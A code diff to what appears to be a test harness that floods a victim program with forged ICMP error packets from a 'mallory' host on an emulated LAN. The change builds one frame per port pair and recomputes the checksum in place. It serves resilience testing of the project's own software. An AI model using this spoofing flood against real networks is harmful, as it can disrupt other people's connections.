@@ -15,6 +15,7 @@ from wire import (ROCE_PORT, Lan, Tap, Victims, checksum, ethernet, ip_header, p
 VICTIM = os.path.realpath(sys.argv[1])
 SOURCE_PORTS = range(0xc000, 0x10000)
 TOO_SMALL = {4: 552, 6: 1280}
+UDP_BYTES, ICMP_BYTES, IP_BYTES = 8, 8, {4: 20, 6: 40}
 
 
 def icmp(family, kind, about):
@@ -38,17 +39,35 @@ def error_about(mallory, sender, receiver, ports, kind, family):
     return ethernet(mallory, sender, packet)
 
 
+def errors_about(mallory, sender, receiver, kind, family):
+    """One about every pair of ports, of which only the ports and the checksum differ."""
+    def plain(ports):
+        return error_about(mallory, sender, receiver, ports, kind, family)
+    frame = bytearray(plain((0, 0)))
+    ports_at = len(frame) - UDP_BYTES
+    sum_at = ports_at - IP_BYTES[family] - ICMP_BYTES + 2
+    rest = 0xffff - struct.unpack_from("!H", frame, sum_at)[0]
+    # The sockets that receive have weft's own port.
+    pairs = [(port, ROCE_PORT) for port in SOURCE_PORTS] + [(ROCE_PORT, port) for port in SOURCE_PORTS]
+    for ports in pairs:
+        total = rest + sum(ports)
+        while total > 0xffff:
+            total = (total & 0xffff) + (total >> 16)
+        struct.pack_into("!HH", frame, ports_at, *ports)
+        struct.pack_into("!H", frame, sum_at, 0xffff - total)
+        if ports in (pairs[0], pairs[-1]) and frame != plain(ports):
+            raise AssertionError("the checksum of ports %d and %d is wrong" % ports)
+        yield frame
+
+
 def attack(kind, family):
     with Lan(3) as (server, client, mallory), Children() as start:
         victims = Victims(start, VICTIM, (server, client), family)
         victims.go_on("before the attack")
         tap = Tap(mallory)
         for sender, receiver in ((client, server), (server, client)):
-            for port in SOURCE_PORTS:
-                tap.send(error_about(mallory, sender, receiver, (port, ROCE_PORT), kind, family))
-            # The sockets that receive have weft's own port.
-            for port in SOURCE_PORTS:
-                tap.send(error_about(mallory, sender, receiver, (ROCE_PORT, port), kind, family))
+            for frame in errors_about(mallory, sender, receiver, kind, family):
+                tap.send(frame)
             victims.go_on("after the attack on %s" % sender.address(family))
 
 
